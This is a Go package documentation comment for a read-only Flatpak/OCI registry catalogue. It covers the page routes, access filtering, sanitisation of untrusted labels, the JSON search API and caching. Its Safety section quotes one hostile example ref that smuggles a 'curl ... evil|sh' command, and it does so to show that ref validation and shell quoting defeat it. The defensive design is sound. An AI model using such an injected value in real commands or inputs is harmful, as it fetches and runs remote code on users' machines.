// Package web serves the catalogue: server-rendered HTML pages of the apps,
// runtimes and repositories the registry holds, and the JSON search API
// under /api/v1/. Everything it shows comes from what package meta recorded
// at push time (tags, manifests and their bytes, labels, annotations,
// referrers); the only blob it reads is an image's config, for its history,
// bounded and cached by digest. It never writes: every route answers GET
// and HEAD only (V21).
//
// # Pages (stable deep links)
//
//	/                                          apps and runtimes grid (?page=)
//	/search?q=&kind=&arch=&page=               apps, runtimes and repositories, tags matched
//	/apps/<flatpak id>                         one app or runtime
//	/repositories?sort=pushed|name|size&order=asc|desc&page=
//	/repositories/<name>?sort=pushed|name&page=   one repository's tags
//	/repositories/<name>/-/manifests/<digest>  one manifest
//	/repositories/<name>/-/tags/<tag>          the manifest a tag points at
//	/static/<file>                             embedded CSS, JavaScript, images
//
// The pages work without JavaScript; static/app.js only adds search as you
// type and copy buttons. Styles and scripts are files, never inline, so the
// Content-Security-Policy allows 'self' only (and data: images).
//
// # Safety
//
// Access (V14): with Options.CanRead, every page, the search API, the
// counts, the architectures offered as filters and the icons linked show
// only readable repositories; an app with builds in readable and hidden
// repositories is described, ranked and matched from its readable builds
// only. A hidden repository is answered exactly as a missing one, on
// every sub-page (same status, same page). The icons themselves are served
// by package flatpak, which applies the same filter (flatpak.Access).
//
// Commands: every value put into a command shown next to a Copy button
// (remote names, URLs, Flatpak ids, repository names, tags, digests) is
// single-quoted for the shell (shellQuote), valid or not; and an image is
// an app only if its org.flatpak.ref is one flatpak accepts
// (flatpak.ParseRef), so a ref such as "org.sh.App;curl${IFS}evil|sh" makes
// no app, page, search result or command.
//
// Labels, annotations and AppStream text are untrusted. Every such string
// has its control characters (C0 but tab and newline, C1, bidirectional
// overrides) removed and invalid UTF-8 replaced before a template sees it,
// and html/template escapes it for its context (V20, V26); platform and
// media type strings from configs, manifests and index platforms are
// cleaned to one line of at most 255 bytes when the snapshot is built. Links taken from
// AppStream data are kept only when they are http or https. Screenshots in
// AppStream data are remote URLs, which the Content-Security-Policy does not
// let the page load, so they are offered as links.
//
// # Search API
//
// GET /api/v1/search answers with application/json:
//
//	{
//	  "query": "hel",        // q, as used (trimmed)
//	  "kind": "",            // the kind filter: "", "app", "runtime" or "image"
//	  "arch": "",            // the architecture filter, OCI name ("amd64"), or ""
//	  "page": 1,             // 1-based
//	  "per_page": 20,        // default 20, at most 100
//	  "total": 1,            // matches before paging
//	  "results": [{
//	    "kind": "app",                    // "app", "runtime" or "image" (a repository)
//	    "id": "org.example.Hello",        // Flatpak id, or the repository name
//	    "name": "Hello",                  // AppStream name, else the id
//	    "summary": "Says hello",          // "" when none
//	    "developer": "",                  // "" when none
//	    "icon": "/icons/<sha256>.png",    // "" when none
//	    "url": "/apps/org.example.Hello", // the catalogue page
//	    "repositories": ["hello"],        // where it is (readable ones only)
//	    "architectures": ["amd64"],       // OCI names
//	    "tags": ["latest"],               // newest first, at most 10
//	    "tag_count": 1,
//	    "matched_tags": [],               // tags containing the query, at most 10
//	    "updated": "2026-01-01T00:00:00Z", // newest tag push, RFC 3339 UTC
//	    "installs_30d": 2,                 // apps and runtimes only: Flatpak installs
//	    "updates_30d": 1                   // and updates of the last 30 days
//	  }]
//	}
//
// installs_30d and updates_30d sum the counts of package flatpak's
// InstallCounter over the repositories the requester may read (read at
// most every 5 s); images have neither. Arrays are never null. An answer is at most Options.MaxAnswerBytes
// (default 4 MiB): a page whose results would pass it lists the first
// that fit and adds "truncated": true. Parameters: q (free text; empty lists everything),
// kind, arch (OCI names, or Flatpak's x86_64, aarch64, i386, arm), page,
// per_page. Ranking: an exact id, name or last id component first, then a
// prefix of one of them (or of a word of the name), then a substring of
// id or name, then every word of the query found in the summary, keywords,
// categories or developer, then a matching tag; ties by name in natural
// order. A bad parameter is 400 with {"error": "..."}; other paths under
// /api/v1/ are 404 with the same shape.
//
// # Caching
//
// The searchable view of the whole catalogue is built from meta and kept
// until Catalog.CatalogVersion changes (one cheap query per request), so
// pushes, tag moves and deletes show at once. Facts read from labels
// (AppStream, Flatpak metadata) are cached by manifest digest, which fixes
// them; icons are the ones recorded at push time (Catalog.ManifestIcons),
// read with each new snapshot. Image histories are cached by config digest
// within 16 MiB.
package web
